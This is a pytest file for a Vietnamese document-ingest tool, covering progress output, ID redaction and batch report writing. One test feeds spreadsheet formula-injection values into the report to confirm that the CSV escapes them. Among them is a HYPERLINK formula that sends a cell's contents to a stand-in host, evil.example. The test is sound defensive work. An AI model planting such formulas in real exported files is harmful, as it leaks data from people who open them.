"""Progress lines, the report files and ID redaction (no OCR)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from ingest.progress import PlainProgress, ProgressEvent, RichProgress, estimate_eta, format_seconds, plain_line
from ingest.report import REPORT_COLUMNS, BatchSummary, redact_ids, write_report
from repository.catalog import Batch, BatchItem

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def _event(done: int, finished: bool = False) -> ProgressEvent:
    return ProgressEvent(1, done, 10, done * 2, 20, 30.0, 12.5, estimate_eta(done, 10, 30.0), finished)


def test_eta_and_seconds() -> None:
    assert estimate_eta(0, 10, 5.0) is None
    assert estimate_eta(5, 10, 50.0) == 50.0
    assert estimate_eta(10, 10, 50.0) == 0.0
    assert format_seconds(None) == "?" and format_seconds(62) == "1:02" and format_seconds(3723) == "1:02:03"


def test_plain_progress_prints_every_interval_and_at_the_end() -> None:
    out = io.StringIO()
    now = [0.0]
    progress = PlainProgress(out, interval=10.0, clock=lambda: now[0])
    for second, done in ((0, 1), (5, 2), (11, 3), (12, 4)):
        now[0] = second
        progress(_event(done))
    progress(_event(10, finished=True))
    lines = out.getvalue().splitlines()
    assert [line.split()[2] for line in lines] == ["1/10", "3/10", "10/10"]
    assert plain_line(_event(3)).endswith("văn bản, 6 trang, 12,5 trang/phút, còn 1:10")
    assert plain_line(_event(3), "en").endswith("pages per minute: 12.5, time left: 1:10")


def test_rich_progress_draws_a_bar() -> None:
    out = io.StringIO()
    with RichProgress(out) as bar:
        bar(_event(4))
    assert "4/10" in out.getvalue() and "12,5 trang/phút" in out.getvalue() and "còn 0:45" in out.getvalue()
    english = io.StringIO()
    with RichProgress(english, "en") as bar:
        bar(_event(4))
    assert "per min: 12.5" in english.getvalue() and "trang" not in english.getvalue()


def test_redact_ids() -> None:
    text = "049085001234.pdf, CMND 201 234 567, số 07/QĐ-UBND ngày 09/02/2022, trang 12"
    assert redact_ids(text) == "[số].pdf, CMND [số], số 07/QĐ-UBND ngày 09/02/2022, trang 12"


def test_write_report(tmp_path: Path) -> None:
    batch = Batch(7, "lô 7", "done", ("/in",), {}, {}, NOW, NOW, NOW)
    items = [
        BatchItem(7, "a.pdf", "indexed", None, "kho-00000000000000000001", (), 2, 91.5, ("blank page",),
                  {"files": ["a.pdf"], "citizen_ids": ["049085001234"], "issuer": "UBND xã Trà Sơn",
                   "review_state": "needs_review"}, NOW),
        BatchItem(7, "bad.zip", "quarantined", "ZIP bomb", None, (), None, None, (), {}, NOW),
    ]
    summary = BatchSummary(7, "lô 7", "done", 2, 1, 1, 0, 2, 2, 0, 1, 1, 10.0, 12.0)
    final = write_report(tmp_path, batch, items, summary)
    assert final.report_csv.endswith("reports/batch-7/report.csv")
    rows = list(csv.DictReader(io.StringIO(Path(final.report_csv).read_text("utf-8-sig"))))
    assert tuple(rows[0]) == REPORT_COLUMNS
    assert rows[0]["citizen_ids"] == "049085001234" and rows[0]["warnings"] == "blank page"
    assert rows[1]["status"] == "quarantined" and rows[1]["files"] == "bad.zip"
    assert rows[1]["error"].endswith("(chi tiết: ZIP bomb)") and rows[1]["reason_code"] == "other"
    data = json.loads(Path(final.report_json).read_text("utf-8"))
    assert data["summary"]["report_json"] == final.report_json and len(data["items"]) == 2
    assert all("049085001234" not in line for line in final.lines())
    assert final.lines()[0] == "Lô 7 «lô 7»: Hoàn tất – có lỗi" and final.to_json()["state"] == "done_with_errors"
    assert final.lines("en")[0] == "Batch 7 «lô 7»: Done – with errors"
    assert not any(word in " ".join(final.lines()) for word in ("documents", "pages", "done", "report:"))


def test_d6_report_csv_escapes_formula_cells(tmp_path: Path) -> None:
    """D6: a cell a spreadsheet would run as a formula is written with a leading apostrophe."""
    batch = Batch(8, "lô 8", "done", ("/in",), {}, {}, NOW, NOW, NOW)
    hostile = {
        "holder_name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "issuer": "@SUM(A1:A9)",
        "document_number": "+1+1",
        "locality": "-2+3",
        "document_type": "\t=1+1",
    }
    items = [
        BatchItem(8, "=cmd.pdf", "indexed", "\r=1", "kho-00000000000000000002", (), 1, 80.0,
                  ("+warn",), {"files": ["=cmd.pdf"], **hostile}, NOW),
    ]
    summary = BatchSummary(8, "lô 8", "done", 1, 1, 1, 0, 1, 1, 0, 0, 0, 1.0, 60.0)
    final = write_report(tmp_path, batch, items, summary)
    with open(final.report_csv, encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["holder_name"] == "'" + hostile["holder_name"]
    assert row["issuer"] == "'@SUM(A1:A9)" and row["document_number"] == "'+1+1" and row["locality"] == "'-2+3"
    assert row["document_type"] == "'\t=1+1" and row["error"].startswith("Không xử lý được")  # a sentence first
    assert row["key"] == "'=cmd.pdf" and row["files"] == "'=cmd.pdf" and row["warnings"] == "'+warn"
    assert row["pages"] == "1" and row["mean_confidence"] == "80.0" and row["status"] == "indexed"
    data = json.loads(Path(final.report_json).read_text("utf-8"))
    assert data["items"][0]["holder_name"] == hostile["holder_name"]  # JSON keeps the value as it is


def test_one_rule_for_a_batch_state_in_the_summary_the_pages_and_the_api() -> None:
    import access.batches
    import web.pages.batch_views
    import web.shapes
    from ingest.report import DONE_WITH_ERRORS, batch_state

    assert access.batches.batch_state is batch_state  # re-exported, not a copy
    assert web.pages.batch_views.batch_state is batch_state and web.shapes.batch_state is batch_state
    assert BatchSummary(1, "x", "done", 1, 0, 0, 0, 0, 0, 0, 1, 0, 1.0, 0.0).state() == DONE_WITH_ERRORS
    assert BatchSummary(1, "x", "done", 1, 1, 1, 0, 1, 1, 0, 0, 0, 1.0, 60.0).state() == "done"


def test_report_warnings_in_one_language(tmp_path: Path) -> None:
    batch = Batch(9, "lô 9", "done", ("/in",), {}, {}, NOW, NOW, NOW)
    warnings = ("độ tin cậy OCR thấp / low OCR confidence: trang/page 2",
                "không có trong bảng kê / not in the manifest")
    items = [BatchItem(9, "a.pdf", "indexed", None, "kho-00000000000000000003", (), 2, 50.0, warnings, {}, NOW)]
    summary = BatchSummary(9, "lô 9", "done", 1, 1, 1, 0, 2, 2, 0, 0, 1, 1.0, 60.0)
    vi = json.loads(Path(write_report(tmp_path, batch, items, summary).report_json).read_text("utf-8"))
    assert vi["items"][0]["warnings"] == ["độ tin cậy OCR thấp: trang 2", "không có trong bảng kê"]
    en = json.loads(Path(write_report(tmp_path, batch, items, summary, "en").report_json).read_text("utf-8"))
    assert en["items"][0]["warnings"] == ["low OCR confidence: page 2", "not in the manifest"]
